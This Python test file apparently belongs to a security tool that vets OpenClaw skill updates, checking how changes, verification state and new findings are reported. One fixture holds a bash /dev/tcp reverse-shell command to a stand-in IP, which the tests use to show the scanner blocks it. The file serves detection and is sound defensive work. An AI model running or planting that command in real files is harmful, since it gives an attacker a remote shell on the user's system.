"""OpenClaw asks about an update: the version that lies there is found, compared, and told, and decides nothing."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from support import install_questions as ask
from support.bench import WEATHER, Bench, make_skill
from support.decisions import HOSTILE

from openclaw_vt.errors import ConfigError
from openclaw_vt.install_policy import Desk, answer
from openclaw_vt.language import translator
from openclaw_vt.ledger import acceptance
from openclaw_vt.model.decision import Phase
from openclaw_vt.model.finding import Confidence, Finding, Severity
from openclaw_vt.model.subject import Origin, SkillRef, identify
from openclaw_vt.openclaw.folders import SkillRoot
from openclaw_vt.openclaw.installed import InstalledSkill, installed_skills
from openclaw_vt.plugin.spec import hookimpl
from openclaw_vt.skill.reader import read
from openclaw_vt.store.files import NotPlain
from openclaw_vt.updates import comparing, find
from openclaw_vt.virustotal.simulator import FileReport

ALLOW = {"protocolVersion": 1, "decision": "allow"}
REVERSE_SHELL = b"```sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n"
NEXT = WEATHER | {"scripts/more.sh": b"#!/bin/sh\necho more\n", "SKILL.md": WEATHER["SKILL.md"] + b"More.\n"}
WORDS = "Newly executable: 1 (scripts/more.sh). Added: 1 (scripts/more.sh). Changed: 1 (SKILL.md)."
RECORD = {"version": 1, "registry": "http://127.0.0.1:9", "slug": "weather", "ownerHandle": "acme", "installedVersion": "1.0.0"}
# Of the hostile words, those that a file system takes for a name.
NAMES = {kind: word.replace("/", "_") for kind, word in HOSTILE.items() if kind not in ("nul", "surrogate")}
NAMES |= {"long": "x" * 200, "wide": "\N{GRINNING FACE}" * 50}


class Place:
    """An OpenClaw with two roots of skills, and the update that it downloaded."""

    def __init__(self, bench: Bench, root: Path) -> None:
        self.bench = bench
        self.root = root
        self.update = make_skill(root / "staged" / "weather", NEXT)

    @property
    def workspace(self) -> Path:
        return self.root / "workspace" / "skills"

    @property
    def managed(self) -> Path:
        return self.root / "state" / "skills"

    def install(self, files=None, *, name: str = "weather", managed: bool = False, record: dict | None = None) -> Path:
        folder = make_skill((self.managed if managed else self.workspace) / name, files)
        if record is not None:
            (folder / ".clawhub").mkdir()
            (folder / ".clawhub" / "origin.json").write_text(json.dumps(record))
        return folder

    def skills(self) -> tuple[InstalledSkill, ...]:
        return installed_skills((SkillRoot("workspace", self.workspace), SkillRoot("managed", self.managed))).skills

    @contextmanager
    def desk(self, **more) -> Iterator[Desk]:
        with self.bench.assembly() as assembly:
            gate = assembly.gate()
            yield Desk(
                check=gate.check,
                check_plugin=gate.look_up,
                notices=assembly.notices(),
                policy=assembly.policy.digest,
                translate=lambda text: text,
                agreed=lambda subject: pytest.fail(f"nobody agreed to {subject}"),
                asker="test",
                updates=comparing(assembly, self.skills),
                **more,
            )

    def said(self, question: dict | None = None) -> dict:
        with self.desk() as desk:
            return answer(ask.raw(question or ask.clawhub(self.update, mode="update", version="1.1.0")), desk)

    def changes(self, question: dict | None = None) -> str:
        first = self.said(question)["findings"][0]
        assert (first["ruleId"], first["severity"]) == ("update.changes", "info")
        return first["message"]


@pytest.fixture
def place(bench: Bench, tmp_path: Path) -> Place:
    return Place(bench, tmp_path / "openclaw")


def accept(bench: Bench, folder: Path) -> None:
    with bench.assembly() as assembly:
        subject = identify(read(folder), SkillRef("weather", os.fspath(folder)))
        assembly.ledger().state(acceptance(subject, basis="accepted", by="terminal", now=assembly.clock()))


# --- what is told ---


def test_a_warning_tells_what_changes_against_the_verified_version(place: Place):
    installed = place.install()
    place.bench.know(installed)
    place.bench.check(installed)
    assert place.changes() == f"Compared with the installed version, which was verified. {WORDS}"


def test_an_accepted_version_is_called_so(place: Place):
    accept(place.bench, place.install())
    assert place.changes() == f"Compared with the installed version, which a person accepted. {WORDS}"


def test_a_version_nobody_judged_is_called_so(place: Place):
    place.install()
    assert place.changes() == f"Compared with the installed version, which is not verified. {WORDS}"


def test_bytes_that_changed_where_they_passed_are_called_so(place: Place):
    installed = place.install()
    place.bench.know(installed)
    place.bench.check(installed)
    (installed / "SKILL.md").write_bytes(WEATHER["SKILL.md"] + b"edited\n")
    assert place.changes() == f"Compared with the installed version, which was changed after it was verified. {WORDS}"


def test_a_release_that_passed_at_install_and_was_edited_since_is_called_so(place: Place):
    staged = make_skill(place.root / "first" / "weather")
    place.bench.know(staged)
    assert place.said(ask.clawhub(staged)) == ALLOW
    place.install(WEATHER | {"notes.txt": b"edited"}, record=RECORD)
    assert "changed after it was verified" in place.changes()


def test_another_release_that_passed_says_nothing_about_this_one(place: Place):
    staged = make_skill(place.root / "first" / "weather")
    place.bench.know(staged)
    assert place.said(ask.clawhub(staged, version="0.9.0")) == ALLOW
    place.install(WEATHER | {"notes.txt": b"edited"}, record=RECORD)
    assert "which is not verified" in place.changes()


def test_a_revoked_version_is_called_so(place: Place):
    installed = place.install()
    place.bench.know(installed)
    place.bench.check(installed)
    place.bench.know(installed, FileReport(malicious=9, undetected=55))
    place.bench.check(installed, refresh=True)
    assert "whose verification was revoked" in place.changes()


def test_a_block_tells_it_too_and_names_what_is_newly_found(place: Place):
    place.install()
    make_skill(place.update, {"SKILL.md": REVERSE_SHELL})
    said = place.said()
    assert said["decision"] == "block"
    assert "New findings: 1 (execute.reverse-shell)." in said["findings"][0]["message"]


def test_what_was_found_before_is_not_new(place: Place):
    place.install(WEATHER | {"SKILL.md": REVERSE_SHELL})
    make_skill(place.update, {"SKILL.md": REVERSE_SHELL + b"More.\n"})
    assert "New findings" not in place.changes()


def test_an_allowed_update_is_told_nothing(place: Place):
    place.install()
    place.bench.know(place.update)
    assert place.said() == ALLOW


def test_an_install_a_dependency_and_a_plugin_are_compared_with_nothing(place: Place):
    place.install()
    dependency = ask.dependency(place.update)
    dependency["request"]["mode"] = "update"
    for question in (ask.clawhub(place.update), dependency, ask.plugin(place.update, "plugin-package", mode="update")):
        said = place.said(question)
        assert said["decision"] == "warn"
        assert all(finding["ruleId"] != "update.changes" for finding in said.get("findings", ()))


def test_japanese(place: Place):
    place.install()
    with place.desk() as desk:
        said = answer(ask.raw(ask.clawhub(place.update, mode="update")), replace(desk, translate=translator("ja")))
    assert "検証されていない" in said["findings"][0]["message"]
    assert "1 (scripts/more.sh)" in said["findings"][0]["message"]


# --- OpenClaw's limits ---


def test_both_questions_are_answered_byte_for_byte_alike_and_without_memory_too(place: Place):
    place.install()
    question = ask.raw(ask.clawhub(place.update, mode="update"))
    with place.desk() as desk:
        first = answer(question, desk)
        assert answer(question, replace(desk, asker="another process")) == first
        assert answer(question, replace(desk, certain=False)) == first


@pytest.mark.skipif(os.name != "posix", reason="the names are POSIX ones")
@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_the_notice_stays_within_the_limits_whatever_the_names(place: Place, name: str):
    place.install({"SKILL.md": b"old"} | {f"{number}{name}.md": b"x" for number in range(40)})
    make_skill(place.update, {f"{number}{name}.sh": REVERSE_SHELL for number in range(40)})
    (place.update / "SKILL.md").write_bytes(REVERSE_SHELL * 50)
    said = json.loads(json.dumps(place.said()))
    assert said["findings"][0]["ruleId"] == "update.changes"
    assert ask.notice_length(said) < 4000
    assert len(said["findings"][0]["message"].encode("utf-16-le")) // 2 <= 1000
    assert not set(json.dumps(said, ensure_ascii=False)) & set("\x1b\u202e\u200b")


# --- which skill it is about ---


def test_the_folder_of_the_right_name_is_taken_not_the_one_that_claims_to_be_it(place: Place):
    place.install(record=RECORD)
    place.install({"SKILL.md": b"decoy"}, name="aaa", record=RECORD)
    assert place.changes() == f"Compared with the installed version, which is not verified. {WORDS}"


def test_a_renamed_folder_is_found_by_what_openclaw_wrote_into_it(place: Place):
    place.install(name="my-weather", record=RECORD)
    assert WORDS in place.changes()


@pytest.mark.parametrize("other", [{"ownerHandle": "mallory"}, {"registry": "https://elsewhere.example"}, {"slug": "other"}])
def test_a_skill_of_another_publisher_or_registry_is_another_skill(place: Place, other: dict):
    place.install(name="my-weather", record=RECORD | other)
    assert place.changes() == "The installed version was not found, so nothing was compared."


def test_of_several_the_one_that_openclaw_loads_is_taken_and_that_is_said(place: Place):
    place.install()
    place.install({"SKILL.md": b"global"}, managed=True)
    said = place.changes()
    assert WORDS in said
    assert "Several installed skills fit; the first one that OpenClaw would load was taken." in said


def test_nothing_installed_is_said(place: Place):
    assert place.changes() == "The installed version was not found, so nothing was compared."


@pytest.mark.parametrize("kind", ["bundled", "plugin", "workshop"])
def test_what_no_update_replaces_is_not_compared(kind):
    skill = InstalledSkill(SkillRef("weather", "/x/weather"), SkillRoot(kind, Path("/x")))
    assert find([skill], name="weather", origin=None, path="/y") == ()


def test_the_update_itself_is_not_what_it_replaces(tmp_path: Path):
    folder = make_skill(tmp_path / "weather")
    skill = InstalledSkill(SkillRef("weather", os.path.realpath(folder)), SkillRoot("workspace", tmp_path))
    assert find([skill], name="weather", origin=Origin("local"), path=os.fspath(folder)) == ()


# --- trouble decides nothing ---


def failing(error: Exception) -> Callable[[], tuple[InstalledSkill, ...]]:
    def installed():
        raise error

    return installed


@pytest.mark.parametrize(
    "error", [ConfigError("broken"), OSError(5, "no"), NotPlain(5, "no"), UnicodeEncodeError("utf-8", "x", 0, 1, "no")]
)
@pytest.mark.parametrize("known", [True, False], ids=["clean", "unknown"])
def test_where_the_installed_skills_cannot_be_listed_the_decision_stands(place: Place, error: Exception, known: bool):
    if known:
        place.bench.know(place.update)
    with place.desk() as desk:
        broken = replace(desk, updates=replace(desk.updates, installed=failing(error)))
        said = answer(ask.raw(ask.clawhub(place.update, mode="update")), broken)
    assert said["decision"] == ("allow" if known else "warn")
    assert known or "could not be read, so nothing was compared" in said["findings"][0]["message"]


def test_a_download_that_is_swapped_after_it_was_judged_is_not_described(place: Place):
    place.install()
    with place.desk() as desk:

        def check(request):
            decision = desk.check(request)
            (place.update / "SKILL.md").write_bytes(b"swapped")
            return decision

        said = answer(ask.raw(ask.clawhub(place.update, mode="update")), replace(desk, check=check))
    assert said["findings"][0]["message"].endswith("What the update changes could not be told.")


def test_an_unreadable_download_is_still_a_question(place: Place):
    place.install()
    said = place.said(ask.clawhub(place.root / "nothing" / "weather", mode="update"))
    assert said["decision"] == "warn"


# --- plugins ---


class Watcher:
    """A stranger that compares on its own."""

    def __init__(self) -> None:
        self.seen: list[tuple] = []

    @hookimpl
    def skill_post_update(self, request, snapshot, previous):
        known = dict(previous.files) if previous else {}
        self.seen.append(("update", previous, request.previous))
        for entry in snapshot.files():
            if entry.path not in known:
                yield Finding("acme.new-file", Severity.LOW, Confidence.HIGH, "A new file.", evidence=entry.path)

    @hookimpl
    def skill_analyze(self, previous):
        self.seen.append(("analyze", previous))
        return ()


def test_plugins_get_the_installed_version(place: Place):
    installed = place.install(WEATHER | {"SKILL.md": WEATHER["SKILL.md"] + b"See https://wttr.in.\n"})
    watcher = Watcher()
    with place.bench.assembly() as assembly:
        assembly.hooks().register(watcher, name="acme")
        with place.desk() as desk:
            checked = replace(desk, check=assembly.gate().check)
            said = answer(ask.raw(ask.clawhub(place.update, mode="update")), checked)
            answer(ask.raw(ask.clawhub(place.update)), checked)
    first, again = watcher.seen[:2], watcher.seen[2:]
    (_, analyzed), (_, previous, requested) = first
    assert analyzed is previous is requested
    assert dict(previous.files) == {entry.path: entry.sha256 for entry in read(installed).files()}
    assert [endpoint.value for endpoint in previous.endpoints] == ["https://wttr.in"]
    assert again == [("analyze", None)], "an install replaces nothing"
    assert [f["ruleId"] for f in said["findings"]] == ["update.changes", "acme.new-file"]
    assert "acme.new-file" not in said["findings"][0]["message"], "nobody asked that plugin about the old version"


def test_the_phase_of_an_update_reaches_the_audit_log(place: Place):
    place.install()
    place.said()
    with place.bench.assembly() as assembly:
        assert assembly.audit().tail(1)[0]["detail"]["phase"] == Phase.POST_UPDATE.value
